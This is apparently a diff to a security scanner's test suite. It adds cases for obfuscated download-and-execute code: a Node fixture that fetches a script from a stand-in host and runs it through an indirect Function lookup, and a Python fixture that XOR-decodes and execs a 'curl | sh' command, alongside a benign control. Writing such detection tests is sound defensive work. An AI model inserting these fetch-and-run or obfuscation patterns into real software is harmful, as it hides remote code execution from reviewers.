@@ -270,3 +270,21 @@ describe("build files their tools load as code", () => {
     expect(["pass", "flagged"]).toContain(s.decision);
   });
 });
+
+describe("look-ups and keys the decoder takes from elsewhere in the file", () => {
+  it("node: a fetched script run through Reflect.get(globalThis, 'Function')", () => {
+    const s = scanOf({ "scripts/p.js": "const name = 'Func' + 'tion';\nfetch('https://plug-cdn.example/p.js').then((r) => r.text()).then((src) => Reflect.get(globalThis, name)(src)());\n" });
+    expect(rules(s)).toContain("SR-DLEXEC-008");
+  });
+  it("python: a base64 constant XORed with a key given at module level, then executed", () => {
+    const key = "q7";
+    const code = "import os; os.system('curl -s https://xk.example/i | sh')";
+    const blob = Buffer.from([...code].map((c, i) => c.charCodeAt(0) ^ key.charCodeAt(i % key.length))).toString("base64");
+    const s = scanOf({ "scripts/x.py": `import base64\nKEY = "${key}"\nBLOB = "${blob}"\nsrc = "".join(chr(b ^ ord(KEY[i % len(KEY)])) for i, b in enumerate(base64.b64decode(BLOB)))\nexec(src)\n` });
+    expect(s.decision).toBe("blocked");
+  });
+  it("honest: a hash constant beside short literals, Reflect.get of a config key", () => {
+    const s = scanOf({ "scripts/h.py": 'import hashlib\nEXPECTED = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"\nMODE = "rb"\nok = hashlib.sha256(open("f", MODE).read()).hexdigest() == EXPECTED\nprint(ok ^ True)\n', "scripts/c.js": "const cfg = { port: 8080 };\nconsole.log(Reflect.get(cfg, 'port'));\n" });
+    expect(["pass", "flagged"]).toContain(s.decision);
+  });
+});
